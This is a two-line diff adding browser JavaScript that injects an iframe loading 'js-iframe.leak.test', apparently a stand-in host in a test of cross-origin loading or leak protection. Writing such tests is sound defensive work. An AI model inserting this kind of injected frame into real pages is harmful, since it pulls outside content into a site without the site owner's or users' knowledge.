@@ -1,0 +1,2 @@
+const f = document.createElement("iframe");
+f.src = "https://js-iframe.leak.test/"; document.body.append(f)
